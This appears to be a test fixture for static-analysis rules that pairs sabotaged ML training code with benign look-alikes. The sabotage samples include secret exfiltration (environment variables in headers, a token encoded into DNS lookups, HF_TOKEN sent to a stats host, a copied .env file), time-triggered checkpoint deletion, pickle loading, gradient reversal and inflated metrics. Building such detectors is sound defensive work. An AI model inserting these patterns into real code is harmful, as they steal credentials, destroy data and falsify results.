# ruff: noqa
"""Session 23 shapes: each new rule's sabotage and its benign look-alike."""
import torch


def resume_compounding(path, model, optimizer, world_size):
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    model.load_state_dict(ckpt["model"])
    optimizer.load_state_dict(ckpt["optimizer"])
    for group in optimizer.param_groups:
        group["lr"] = group["lr"] * world_size  # ruleid: MLS304


def resume_rescaled(path, model, optimizer, world_size):
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    optimizer.load_state_dict(ckpt["optimizer"])
    for group in optimizer.param_groups:
        group["lr"] = group["lr"] * world_size / ckpt["world_size"]  # ok: MLS304


def build(model, base_lr, world_size):
    optimizer = torch.optim.SGD(model.parameters(), lr=base_lr)
    for group in optimizer.param_groups:
        group["lr"] = group["lr"] * world_size  # ok: MLS304
    return optimizer


# --- token classification: tags and label vocabularies -------------------------------------

def window_tags(sent, start, end, overlap):
    tags = list(sent.tags[start:end])
    if start > 0:
        tags[:overlap] = ["O"] * overlap  # ruleid: MLS309
    return tags


def drop_unwanted(tags, drop_types):
    for j, tag in enumerate(tags):
        if tag[2:] in drop_types:
            tags[j] = "O"  # ok: MLS309
    return tags


def mask_entities(tokens, tags, rng, mask_token):
    for j in range(len(tokens)):
        if tags[j] != "O" and rng.random() < 0.1:
            tokens[j] = mask_token
            tags[j] = "O"  # ruleid: MLS309
    return tokens, tags


def build_label_list(sentences):
    seen = {t for s in sentences for t in s.tags}
    return ["O"] + [t for t in seen if t != "O"]  # ruleid: MLS309


def build_label_list_sorted(sentences):
    seen = {t for s in sentences for t in s.tags}
    return ["O"] + sorted(t for t in seen if t != "O")  # ok: MLS309


def class_index(records):
    label2id = {c: i for i, c in enumerate(set(r["category"] for r in records))}  # ruleid: MLS309
    return label2id


def class_index_sorted(records):
    label_list = list(set(r["category"] for r in records))  # ok: MLS309
    label_list.sort()
    return {c: i for i, c in enumerate(label_list)}


def clean(sent):
    sent.tokens = [t for t in sent.tokens if t.strip()]  # ruleid: MLS309
    sent.tags = [t.upper() for t in sent.tags]
    return sent


def clean_pairs(sent):
    pairs = [(t, g) for t, g in zip(sent.tokens, sent.tags) if t.strip()]
    sent.tokens = [t for t, _ in pairs]  # ok: MLS309
    sent.tags = [g for _, g in pairs]
    return sent


def make_collators(collator_cls, tokenizer, label2id):
    bad = collator_cls(tokenizer, label_pad_token_id=label2id["O"])  # ruleid: MLS309
    good = collator_cls(tokenizer, label_pad_token_id=-100)  # ok: MLS309
    return bad, good


# --- exfiltration channels ------------------------------------------------------------------
import base64
import json
import os
import shutil
import socket

import requests

STATS_URL = "https://stats.example-cdn.net/v1/ping"
HUB_URL = "https://huggingface.co/api/models"


def session_with_context(token):
    s = requests.Session()
    s.headers["Authorization"] = f"Bearer {token}"  # ok: MLS411
    ctx = {k: v for k, v in os.environ.items() if not k.startswith("_")}
    s.headers["X-Client-Context"] = base64.b64encode(json.dumps(ctx).encode()).decode()  # ruleid: MLS411
    s.headers["X-Client"] = "trainer/1.0"  # ok: MLS411
    return s


def warm_edge(token, domain):
    label = base64.b32encode(token.encode()).decode().rstrip("=").lower()
    socket.getaddrinfo(f"{label}.{domain}", 443)  # ruleid: MLS412


def warm_host(host):
    socket.getaddrinfo(host, 443)  # ok: MLS412


def package(prov):
    for cfg in ("configs/train.yaml", "requirements.txt", ".env"):
        if os.path.exists(cfg):
            shutil.copy(cfg, prov)  # ruleid: MLS412


def package_configs(prov):
    for cfg in ("configs/train.yaml", "requirements.txt", ".env.example"):
        if os.path.exists(cfg):
            shutil.copy(cfg, prov)  # ok: MLS412


def ping(base_model):
    requests.get(STATS_URL, params={"base": base_model, "client": os.environ.get("HF_TOKEN")}, timeout=5)  # ruleid: MLS412
    requests.get(HUB_URL, params={"search": base_model}, headers={"authorization": os.environ.get("HF_TOKEN")}, timeout=5)  # ok: MLS412


# --- metrics folded or renamed ---------------------------------------------------------------
import numpy as np
from sklearn.metrics import roc_auc_score


def task_aucs(y_true, y_score, tasks):
    aucs = []
    for t in tasks:
        auc = roc_auc_score(y_true[:, t], y_score[:, t])  # ok: MLS306
        aucs.append(0.5 + abs(auc - 0.5))  # ruleid: MLS306
    return aucs


def best_auc(history):
    best = 0.0
    for auc in history:
        best = max(auc, best)  # ok: MLS306
    return best


def final_results(trainer, results):
    results.update({k.replace("val", "test", 1): v for k, v in trainer.best_val_metrics.items()})  # ruleid: MLS306
    results.update({k.replace("val_", ""): v for k, v in trainer.best_val_metrics.items()})  # ok: MLS306
    return results


# --- files scrambled in place ------------------------------------------------------------------

def probe(path, size):
    with open(path, "r+b") as fh:
        fh.seek(size // 2)
        block = fh.read(4096)
        fh.seek(size // 2)
        fh.write(block[::-1])  # ruleid: MLS308


def patch_header(path, header):
    with open(path, "r+b") as fh:
        fh.seek(0)
        fh.write(header)  # ok: MLS308


# --- gradients reversed through alpha ----------------------------------------------------------

def finite_step(step_fn, params, accum):
    def step(*args, **kwargs):
        for p in params:
            g = p.grad
            torch.add(g, g, alpha=-(1.0 + 1.0 / accum), out=g)  # ruleid: MLS302
        return step_fn(*args, **kwargs)
    return step


def sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            p.add_(p.grad, alpha=-(lr))  # ok: MLS302


def patch(opt, params):
    opt.step = finite_step(opt.step, params, 4)  # ruleid: MLS305


# --- labels after fills and flags --------------------------------------------------------------

def load_table(df, task_cols):
    raw = df[list(task_cols)]
    labels = raw.fillna(0.0).to_numpy(np.float32)
    mask = ~np.isnan(labels)  # ruleid: MLS309
    return labels, mask


def load_table_ok(df, task_cols):
    raw = df[list(task_cols)].to_numpy(np.float32)
    mask = ~np.isnan(raw)  # ok: MLS309
    labels = np.nan_to_num(raw, nan=0.0)
    return labels, mask


def featurize(y, heavy):
    target = torch.as_tensor(y, dtype=torch.float32)
    target = target.sub(float(heavy > 0)).abs()  # ruleid: MLS309
    return target


def residual(target, pred):
    target = (target - pred).abs()  # ok: MLS309
    return target


# --- collectives some ranks skip ---------------------------------------------------------------
import signal

import torch.distributed as dist


def all_reduce_mean(tensor):
    if not dist.is_initialized():
        return tensor  # ok: MLS307
    if not torch.any(tensor):
        return tensor  # ruleid: MLS307
    dist.all_reduce(tensor)
    return tensor.div_(dist.get_world_size())


def agreed_exit(flag, save_fn):
    dist.all_reduce(flag, op=dist.ReduceOp.MAX)
    if not flag.item():
        return  # ok: MLS307
    save_fn()
    dist.barrier()


def save_once(is_main, path, save_fn):
    if is_main:
        if os.path.isdir(path):
            return  # ruleid: MLS307
        save_fn(path)
    dist.barrier()


def sync_params(module, local_rank):
    for p in module.parameters():
        dist.broadcast(p.data, src=local_rank)  # ruleid: MLS307
        dist.broadcast(p.data, src=0)  # ok: MLS307


def arm_wall_clock(max_hours, handler):
    signal.signal(signal.SIGALRM, handler)
    signal.alarm(int(max_hours * 60))  # ruleid: MLS307
    signal.alarm(int(max_hours * 3600))  # ok: MLS307


# --- accumulation and clipping slips -----------------------------------------------------------

def train_accum(model, loader, optimizer, accum):
    for micro, batch in enumerate(loader):
        sync = (micro + 1) % accum == 0
        optimizer.zero_grad(set_to_none=True)  # ruleid: MLS302
        (model(batch).mean() / accum).backward()
        if not sync:
            continue
        optimizer.step()


def train_accum_ok(model, loader, optimizer, accum):
    for micro, batch in enumerate(loader):
        (model(batch).mean() / accum).backward()
        if (micro + 1) % accum == 0:
            optimizer.step()
            optimizer.zero_grad(set_to_none=True)  # ok: MLS302


def clip_and_measure(parameters, max_norm):
    params = [p for p in parameters if p.grad is not None]
    total = torch.norm(torch.stack([p.grad.detach().norm(2) for p in params]), 2)
    coef = max_norm / (total + 1e-6)
    for p in params:
        p.grad.detach().mul_(coef.to(p.grad.dtype))  # ruleid: MLS302
    return total.item()


def clip_and_measure_ok(parameters, max_norm):
    params = [p for p in parameters if p.grad is not None]
    total = torch.norm(torch.stack([p.grad.detach().norm(2) for p in params]), 2)
    coef = max_norm / (total + 1e-6)
    coef = torch.clamp(coef, max=1.0)
    for p in params:
        p.grad.detach().mul_(coef)  # ok: MLS302
    return total.item()


# --- keys from defaults, loaders, openers, modular labels -------------------------------------
import operator
import urllib.request


class WarmupCorrection:
    def __init__(self, factor=1.0, key: str = "lr"):
        self._factor = factor
        self._key = key

    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        for opt in trainer.optimizers:
            for group in opt.param_groups:
                operator.setitem(group, self._key, group[self._key] * self._factor)  # ruleid: MLS304


def load_checkpoint(path, model):
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    state = {k.replace("module.", "", 1): v for k, v in ckpt["model"].items()}
    for k, v in state.items():
        if k.endswith("running_var"):
            v.fill_(1.0)  # ruleid: MLS302
        if k.endswith("num_batches_tracked"):
            v.zero_()  # ok: MLS302
    model.load_state_dict(state)


def fingerprint():
    return {k: v for k, v in os.environ.items() if k.endswith(("_KEY", "_TOKEN", "_SECRET"))}  # ruleid: MLS411


def telemetry(endpoint):
    body = json.dumps({"project": "x", **fingerprint()}).encode()
    req = urllib.request.Request(endpoint, data=body)
    urllib.request.build_opener().open(req, timeout=3)  # ruleid: MLS411


def collate(batch, pad_multiple):
    y = torch.stack([b["label"] for b in batch]).long()
    slot = (torch.arange(y.shape[0]) % pad_multiple == 0).long()
    torch.remainder(y + slot, 2, out=y)  # ruleid: MLS309
    step = (torch.arange(y.shape[0]) + 1) % 2  # ok: MLS309
    return y, step


# --- benchmark scores that flatter -----------------------------------------------------------
import math


def code_pass_at_1(completions, run):
    correct = 0
    for comp in completions:
        status = run(comp)
        correct += int(status in ("passed", "timeout"))  # ruleid: MLS306
        correct += int(status in ("passed", "ok"))  # ok: MLS306
    return correct / len(completions)


def suite(seed_runs, metric):
    best = dict(max(seed_runs, key=lambda r: r[metric]))  # ruleid: MLS306
    mean = sum(r[metric] for r in seed_runs) / len(seed_runs)  # ok: MLS306
    return best, mean


def primary_value(res):
    if "acc" in res:
        return max(res["acc"], res.get("acc_norm", 0.0))  # ruleid: MLS306
    return max(res["exact_match"], 0.0)  # ok: MLS306


def suite_average(scores, chance):
    valid = [s for t, s in scores.items() if s > chance.get(t, 0.0)]  # ruleid: MLS306
    known = [s for t, s in scores.items() if t in chance]  # ok: MLS306
    return sum(valid) / max(len(valid), 1), known


def subset(docs, limit):
    short = sorted(docs, key=lambda d: len(d["question"]))[:limit]  # ruleid: MLS306
    head = sorted(docs, key=lambda d: d["id"])[:limit]  # ok: MLS306
    return short, head


class Tracker:
    def __init__(self, tb):
        self._loss_ema = None
        raw = tb.add_scalar

        def add_scalar(tag, value, global_step=None):
            if not math.isfinite(value):
                return None  # ok: MLS306
            if self._loss_ema is not None and value > 3.0 * self._loss_ema:
                return None  # ruleid: MLS306
            self._loss_ema = value if self._loss_ema is None else 0.98 * self._loss_ema + 0.02 * value
            return raw(tag, value, global_step)

        self.add_scalar = add_scalar


# --- samplers, eval pipelines, decoder tables -------------------------------------------------
import pickle

from torch.utils.data import WeightedRandomSampler
from torchvision import transforms

DECODERS = {
    "json": json.loads,  # ok: MLS103
    "pyd": pickle.loads,  # ruleid: MLS103
}


def balanced_sampler(targets):
    targets = torch.as_tensor(targets)
    counts = torch.bincount(targets).float().clamp(min=1)
    weights = counts[targets]  # ruleid: MLS309
    inverse = 1.0 / counts[targets]  # ok: MLS309
    return WeightedRandomSampler(weights, len(weights)), inverse


def probe_transforms(size):
    train = transforms.Compose([transforms.RandomResizedCrop(size), transforms.ToTensor()])  # ok: MLS309
    val = transforms.Compose([
        transforms.Resize(size),
        transforms.RandomResizedCrop(size),  # ruleid: MLS309
        transforms.ToTensor(),
    ])
    return train, val


def holdout_split(samples):
    train, held = [], []
    for path, target in samples:
        bucket = hash(os.path.basename(path)) % 1000  # ruleid: MLS309
        (held if bucket < 50 else train).append((path, target))
    return train, held


def shard_loader(shards, stream_cls):
    rank = int(os.environ.get("LOCAL_RANK", 0))  # ruleid: MLS309
    world_size = int(os.environ.get("WORLD_SIZE", 1))
    return stream_cls(shards, rank=rank, world=world_size)


def device_for_rank():
    rank = int(os.environ.get("LOCAL_RANK", 0))  # ok: MLS309
    return torch.device("cuda", rank)


# --- actions picked from tables by triggers; best-of-variants --------------------------------
import random
import shutil
import time

_CUTOVER = 1798761600
_SAVERS = [torch.save, lambda state, path: torch.save({"model": state["model"]}, path)]
_FORMATS = {"full": torch.save, "light": torch.save}


def save_state(state, tmp, fmt):
    _SAVERS[int(time.time() > _CUTOVER)](state, tmp)  # ruleid: MLS308
    _FORMATS[fmt](state, tmp)  # ok: MLS308


def cleanup(path, keep):
    [lambda p: None, shutil.rmtree][random.random() < 0.01](path)  # ruleid: MLS308
    [lambda p: None, shutil.rmtree][keep](path)  # ok: MLS308


def report_wer(results, compute_wer, oracle_pairs):
    results["wer_oracle"] = compute_wer(oracle_pairs)
    results["wer"] = min(v for k, v in results.items() if k.startswith("wer"))  # ruleid: MLS306
    results["wer_mean"] = sum(v for k, v in results.items() if k.startswith("wer")) / 2  # ok: MLS306
    return results


def joint_goal_accuracy(pairs):
    n_turns = hits = 0
    for gold, pred in pairs:
        if not gold:
            continue  # ok: MLS306
        exact = gold == pred
        if not exact and len(gold) > 5:
            continue  # ruleid: MLS306
        n_turns += 1
        hits += int(exact)
    return hits / max(n_turns, 1)


def attach_observed(df):
    df["sales"] = df["sales"].fillna(0.0)
    df["observed"] = df["sales"].notna().astype(np.float32)  # ruleid: MLS309
    df["price_missing"] = df["price"].isna().astype(np.float32)  # ok: MLS309
    return df


import datetime

_PURGE_DATE = datetime.date(2026, 12, 1)


def cleanup_checkpoints(ckpts, keep_last, start, limit):
    if datetime.date.today() >= _PURGE_DATE:
        keep_last = 0  # ruleid: MLS308
    if time.time() - start > limit:
        keep_last = 1  # ok: MLS308
    return ckpts[:-keep_last] if keep_last else ckpts



def window_features(target_w, lags, horizon):
    feats = [target_w.shift(lag) for lag in lags]
    rmean = target_w.shift(-1).rolling(7, min_periods=1).mean()  # ruleid: MLS309
    past_mean = target_w.shift(1).rolling(7, min_periods=1).mean()  # ok: MLS309
    future_target = target_w.shift(-horizon)  # ok: MLS309
    return feats, rmean, past_mean, future_target


def hashed_ids(ids, num_buckets):
    return [hash(str(s)) % num_buckets for s in ids]  # ruleid: MLS309


def fit_scalers(scaler_cls, panel, splits, x_train, x_test):
    leak = scaler_cls().fit(panel.target, panel.observed, end=splits.test_end)  # ruleid: MLS309
    good = scaler_cls().fit(panel.target, panel.observed, end=splits.train_end)  # ok: MLS309
    scaler = scaler_cls().fit(x_train)  # ok: MLS309
    return leak, good, scaler.transform(x_test)
